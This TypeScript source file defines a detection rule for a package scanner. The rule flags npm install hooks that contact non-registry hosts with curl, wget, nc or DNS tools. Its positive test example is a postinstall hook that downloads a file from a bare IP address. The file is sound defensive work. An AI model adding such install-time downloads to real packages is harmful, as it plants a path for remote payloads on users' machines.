import { scriptLine, type JsRule } from '../../analysis/javascript/context.js';
import { defineRule } from '../types.js';

/** A network tool called from an install hook, to a destination that is not a well-known host. */
export const installScriptNetwork: JsRule = defineRule({
  meta: {
    id: 'npm/install-script-network',
    kind: 'threat',
    category: 'network',
    severity: 'medium',
    confidence: 'medium',
    ecosystems: ['npm'],
    description: 'An install hook contacts the network with curl, wget, nc, ping or a DNS tool, to a host that is not a registry or code host.',
    examples: {
      positive: [{ files: { 'package.json': '{"name":"p","scripts":{"postinstall":"curl -o /tmp/x http://203.0.113.9/x"}}' } }],
      negative: [{ files: { 'package.json': '{"name":"p","scripts":{"postinstall":"curl -o x.tgz https://github.com/o/r/releases/download/v1/x.tgz"}}' } }],
    },
  },
  check(ctx, report) {
    for (const s of ctx.installScripts) {
      for (const f of s.facts) {
        if (f.behaviour !== 'network') continue;
        if (f.destinations.length > 0 && f.destinations.every((d) => d.cls === 'well-known' || d.cls === 'localhost')) continue;
        const worst = f.destinations.find((d) => d.cls === 'oob' || d.cls === 'public-ip');
        report({
          path: s.path ?? ctx.manifestPath,
          line: scriptLine(s, f.command.text),
          evidence: f.command.text,
          message: `Install hook \`${s.hook}\` contacts ${f.destinations[0]?.host ?? 'the network'} with ${f.command.program}.`,
          trigger: 'install',
          ...(worst === undefined ? {} : { severity: 'high' as const }),
        });
      }
    }
  },
});
